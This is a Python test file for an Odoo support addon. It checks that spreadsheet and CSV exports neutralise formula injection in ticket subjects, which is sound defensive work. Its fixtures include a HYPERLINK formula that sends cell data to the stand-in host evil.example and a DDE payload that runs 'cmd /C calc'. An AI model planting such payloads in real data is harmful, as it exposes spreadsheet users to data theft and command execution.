"""What people open in a spreadsheet does not run what a customer wrote."""

import io
import json
import zipfile

from odoo import http
from odoo.tests import HttpCase, tagged

from .common import SupportCommon

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Invoice")'
AT_SIGN = "@SUM(1+1)*cmd|' /C calc'!A0"


@tagged("post_install", "-at_install")
class TestExport(SupportCommon, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.lead.group_ids |= cls.env.ref("base.group_allow_export")
        cls.lead.password = "support_lia"

    def export(self, kind, groupby=(), *subjects):
        tickets = self.env["support.ticket"]
        for subject in subjects:
            tickets += self.make_ticket(name=subject)
        self.authenticate(self.lead.login, "support_lia")
        question = {
            "model": "support.ticket",
            "fields": [{"name": "name", "label": "Subject", "type": "char"}],
            "ids": False,
            "domain": [["id", "in", tickets.ids]],
            "groupby": list(groupby),
            "import_compat": False,
            "context": {},
        }
        answer = self.url_open(
            f"/web/export/{kind}",
            data={
                "data": json.dumps(question),
                "csrf_token": http.Request.csrf_token(self),
            },
        )
        answer.raise_for_status()
        return answer.content

    def get_sheet(self, content):
        with zipfile.ZipFile(io.BytesIO(content)) as file:
            sheet = file.read("xl/worksheets/sheet1.xml").decode()
            texts = file.read("xl/sharedStrings.xml").decode()
        return sheet, texts

    def test_a_workbook_holds_text_and_no_formula(self):
        sheet, texts = self.get_sheet(self.export("xlsx", (), FORMULA, AT_SIGN))
        self.assertNotIn("<f>", sheet)
        self.assertIn("'=HYPERLINK", texts)
        self.assertIn("'@SUM", texts)

    def test_neither_does_a_workbook_with_groups(self):
        content = self.export("xlsx", ["name"], FORMULA, "Lamp")
        sheet, texts = self.get_sheet(content)
        self.assertNotIn("<f>", sheet)
        self.assertIn("Lamp", texts)

    def test_a_text_file_is_defused_once(self):
        text = self.export("csv", (), FORMULA, AT_SIGN, "Lamp").decode()
        self.assertIn("\"'=HYPERLINK", text)
        self.assertIn("\"'@SUM", text)
        self.assertIn('"Lamp"', text)
        self.assertNotIn("''", text.replace("' /C", ""))

    def test_neither_does_a_pivot(self):
        self.authenticate(self.lead.login, "support_lia")
        table = {
            "title": "Tickets",
            "model": "support.ticket",
            "measure_count": 1,
            "origin_count": 1,
            "col_group_headers": [[{"title": FORMULA, "width": 1, "height": 1}]],
            "measure_headers": [],
            "origin_headers": [],
            "rows": [{"title": "Total", "indent": 0, "values": [{"value": 3}]}],
        }
        answer = self.url_open(
            "/web/pivot/export_xlsx",
            data={
                "data": json.dumps(table),
                "csrf_token": http.Request.csrf_token(self),
            },
        )
        sheet, texts = self.get_sheet(answer.content)
        self.assertNotIn("<f>", sheet)
        self.assertIn("'=HYPERLINK", texts)
